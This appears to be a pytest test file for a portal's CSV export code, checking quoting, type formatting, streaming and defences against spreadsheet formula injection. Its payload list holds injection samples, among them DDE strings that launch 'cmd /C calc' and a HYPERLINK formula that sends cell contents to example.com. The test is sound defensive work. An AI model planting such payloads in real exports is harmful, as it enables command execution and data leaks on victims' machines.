from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.core.accounts.exports import stream_csv, write_csv
from portal.core.accounts.text import clean
from portal.core.money import Money

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=WEBSERVICE("http://example.com")',
    '=IMPORTXML("http://example.com","//a")',
    '=DDE("cmd","/C calc","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " ＝1+1",
    "﹦1+1",
    "=\n1+1",
    '"=1+1',
    'x",\n=1+1',
    "x;=1+1",
    "x\t=1+1",
]
# The last four start with something else: quoting alone has to keep them in their cell.
GUARDED = PAYLOADS[:-4]


def written(rows, headings=("Name",), delimiter=",") -> str:
    out = io.StringIO(newline="")
    write_csv(out, headings, rows, delimiter=delimiter)
    return out.getvalue()


def read(text: str, delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


@pytest.mark.abuse("F1")
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_becomes_a_formula(payload, delimiter):
    text = written([["Quinn", payload, "Glenn"]], ("A", "B", "C"), delimiter)

    rows = read(text, delimiter)

    guarded = f"'{payload}" if payload in GUARDED else payload
    assert rows == [["A", "B", "C"], ["Quinn", guarded, "Glenn"]]
    assert len(PAYLOADS) >= 30


@pytest.mark.abuse("F1")
def test_a_heading_is_guarded_as_well():
    assert read(written([], ["=1+1"])) == [["'=1+1"]]


def test_every_field_is_in_quotes():
    assert written([["Quinn", 3]], ("Name", "Calls")) == '"Name","Calls"\r\n"Quinn","3"\r\n'


def test_each_type_is_written_plainly():
    cells = [
        None,
        7,
        Money(123450, "USD"),
        Money(-5, "USD"),
        Money(1234, "JPY"),
        date(2026, 10, 31),
        datetime(2026, 10, 31, 12, 30, tzinfo=UTC),
        UUID(int=1),
    ]

    assert read(written([cells], "ABCDEFGH"))[1] == [
        "",
        "7",
        "1234.50",
        "-0.05",
        "1234",
        "2026-10-31",
        "2026-10-31T12:30:00+00:00",
        "00000000-0000-0000-0000-000000000001",
    ]


@pytest.mark.parametrize("cell", [1.5, True, b"x", ["x"]])
def test_no_float_and_nothing_unexpected_is_written(cell):
    with pytest.raises(TypeError):
        written([[cell]])


@given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=5))
def test_a_written_table_reads_back_as_it_was(rows):
    rows = [[clean(cell) for cell in row] for row in rows]

    back = read(written(rows, ("A", "B")))[1:]

    assert [[clean(cell) for cell in row] for row in back] == rows


def test_the_count_of_rows_is_told():
    out = io.StringIO(newline="")

    assert write_csv(out, ["A"], ([str(n)] for n in range(5))) == 5
    assert write_csv(out, ["A"], []) == 0


def test_a_table_is_streamed_in_pieces_as_its_rows_come():
    taken = []

    def rows():
        for n in range(10_000):
            taken.append(n)
            yield [f"row {n}", "x" * 50]

    pieces = stream_csv(["A", "B"], rows())
    first = next(pieces)
    taken_at_first = len(taken)
    text = (first + b"".join(pieces)).decode()

    assert taken_at_first < 2_000
    assert text.startswith('\ufeff"A","B"\r\n"row 0"')
    assert len(read(text)) == 10_001
    assert b"".join(stream_csv(["A"], [])) == '\ufeff"A"\r\n'.encode()
